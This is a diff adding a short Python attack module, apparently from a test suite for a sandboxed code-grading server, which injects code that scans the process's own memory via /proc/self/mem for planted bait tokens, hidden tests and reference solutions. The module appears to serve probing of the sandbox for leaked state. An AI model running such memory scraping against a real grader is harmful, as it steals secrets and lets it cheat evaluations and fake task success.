@@ -1,0 +1,25 @@
+"""Searches all memory that it was forked with, page by page, for anything that looks like a secret or a
+hidden test: what the warm server has ever held would be there."""
+
+CODE = r"""
+import ctypes, re
+
+wanted = re.compile(rb"bait-[a-z]+-[0-9a-f]{16}|BEGIN HIDDEN TESTS[^\0]{0,300}|BEGIN SOLUTION[^\0]{0,300}")
+found = set()
+with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as memory:
+    for line in maps:
+        span, rights, _, _, inode, *path = line.split(None, 5)
+        start, end = (int(part, 16) for part in span.split("-"))
+        if "r" not in rights or "w" not in rights or end - start > 1 << 29:
+            continue
+        try:
+            memory.seek(start)
+            found.update(wanted.findall(memory.read(end - start)))
+        except (OSError, ValueError, OverflowError):
+            pass
+print("GOT", found)
+"""
+
+
+def attack(submission):
+    submission.add(submission.bait.cell(CODE))
